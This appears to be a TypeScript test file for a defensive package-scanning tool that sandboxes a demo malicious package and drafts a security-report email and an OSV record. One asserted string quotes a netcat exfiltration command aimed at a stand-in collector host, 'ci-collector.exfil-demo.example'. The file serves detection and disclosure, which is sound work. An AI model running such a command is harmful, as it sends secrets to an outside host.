import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { openSqliteStore } from '../../src/adapters/store/sqlite-store.ts';
import { recordFacts } from '../../src/core/behaviour/record-facts.ts';
import { BehaviourRecord } from '../../src/core/record/schema.ts';
import { OsvRecord } from '../../src/core/report-draft/osv-schema.ts';
import { DEMO_INDEX_URL, runCli } from '../helpers/run-cli.ts';

test('report-draft of the analysed and stored demo exfiltration: email with the evidence, a valid OSV record', async (t) => {
  const dir = await mkdtemp(join(tmpdir(), 'pkghunt-report-draft-'));
  t.after(() => rm(dir, { recursive: true, force: true }));
  const db = join(dir, 'x.db');
  const env = { PKGHUNT_SECURITY_CONTACT: '' };
  // Analysed in the real sandbox, then stored the way hunt stores a result (enqueue, claim, complete).
  const analysed = await runCli([
    'analyze',
    'ph-demo-ci-exfil',
    '--index-url',
    DEMO_INDEX_URL,
    '--tracer',
    'strace',
    '--timeout',
    '120',
    '--json',
    '--progress',
    'none',
  ]);
  assert.equal(analysed.code, 3, analysed.stderr);
  const record = BehaviourRecord.parse(JSON.parse(analysed.stdout));
  const store = openSqliteStore(db);
  try {
    await store.migrate();
    await store.enqueue([{ project: 'ph-demo-ci-exfil', version: '1.0.0' }], { maxAttempts: 1 });
    const job = await store.claim('test', { leaseMs: 60_000 });
    assert.ok(job !== null);
    assert.ok(await store.complete(job.id, 'test', { record, facts: recordFacts(record), traces: [] }));
  } finally {
    await store.close();
  }
  const shown = await runCli(['show', 'ph-demo-ci-exfil', '--db', db, '--json']);
  assert.equal(shown.code, 0, shown.stderr);
  const sha256 = record.package.artifact?.sha256 ?? '';
  assert.match(sha256, /^[0-9a-f]{64}$/);

  const drafted = await runCli(
    ['report-draft', 'ph-demo-ci-exfil', '--db', db, '--index-url', DEMO_INDEX_URL, '--json'],
    { env },
  );
  assert.equal(drafted.code, 0, drafted.stdout + drafted.stderr);
  const { email, osv, warnings } = JSON.parse(drafted.stdout);
  assert.ok(email.includes('ci-collector.exfil-demo.example:5566'), email);
  assert.ok(email.includes(record.sandbox.canary_token), 'the canary token');
  assert.ok(email.includes('nc -w 5 ci-collector.exfil-demo.example 5566'), 'the nc command');
  assert.ok(email.includes(sha256), 'the artifact hash');
  assert.ok(email.startsWith("To: <the index's security contact — set PKGHUNT_SECURITY_CONTACT>"));
  assert.ok(email.includes('canary.exfil'), 'the finding that proves it');
  assert.deepEqual(warnings, ['no security contact configured: set PKGHUNT_SECURITY_CONTACT or pass --to']);
  assert.match(drafted.stderr, /warning: no security contact/);

  const parsed = OsvRecord.parse(osv);
  assert.equal(parsed.id, 'MAL-0000-pkghunt-ph-demo-ci-exfil-1.0.0');
  assert.deepEqual(parsed.affected[0]?.versions, ['1.0.0']);
  assert.equal(parsed.references, undefined, 'a file:// index has no public project page');
  assert.equal(parsed.database_specific['malicious-packages-origins'][0]?.sha256, sha256);
  assert.ok(parsed.details.includes('ci-collector.exfil-demo.example:5566'));

  // --out writes both files; a record file gives the same draft as the store; --to fills To:.
  const recordFile = join(dir, 'record.json');
  writeFileSync(recordFile, shown.stdout);
  const out = join(dir, 'draft');
  const written = await runCli(
    [
      'report-draft',
      '--record',
      recordFile,
      '--out',
      out,
      '--to',
      'security@index.example',
      '--id',
      'MAL-2099-1',
    ],
    { env },
  );
  assert.equal(written.code, 0, written.stderr);
  const report = readFileSync(join(out, 'report.txt'), 'utf8');
  assert.ok(report.startsWith('To: security@index.example\n'));
  assert.ok(report.includes(sha256));
  const file = OsvRecord.parse(JSON.parse(readFileSync(join(out, 'MAL-2099-1.json'), 'utf8')));
  assert.equal(file.id, 'MAL-2099-1');
  assert.equal(file.details, parsed.details);
  assert.doesNotMatch(written.stderr, /warning/);

  // A clean verdict still drafts, with a warning on stderr.
  const clean = { ...record, verdict: { ...record.verdict, level: 'clean', score: 0, findings: [] } };
  writeFileSync(recordFile, JSON.stringify(clean));
  const cleanDraft = await runCli(['report-draft', 'ph-demo-ci-exfil==1.0.0', '--record', recordFile], {
    env: { PKGHUNT_SECURITY_CONTACT: 'sec@index.example' },
  });
  assert.equal(cleanDraft.code, 0, cleanDraft.stderr);
  assert.match(cleanDraft.stderr, /warning: the verdict is CLEAN/);
  assert.ok(cleanDraft.stdout.startsWith('To: sec@index.example\n'));
  assert.ok(
    cleanDraft.stdout.includes('----- OSV record (MAL-0000-pkghunt-ph-demo-ci-exfil-1.0.0.json) -----'),
  );

  // Typed failures: no such record, a record of another package, a bad id.
  const missing = await runCli(['report-draft', 'ph-demo-pure', '--db', db, '--json'], { env });
  assert.equal(missing.code, 1);
  assert.equal(JSON.parse(missing.stdout).error.code, 'PACKAGE_NOT_FOUND');
  const other = await runCli(['report-draft', 'ph-demo-pure', '--record', recordFile, '--json'], { env });
  assert.equal(other.code, 2);
  const badId = await runCli(['report-draft', '--record', recordFile, '--id', 'CVE-1', '--json'], { env });
  assert.equal(badId.code, 2);
  assert.equal(JSON.parse(badId.stdout).error.code, 'USAGE');
});
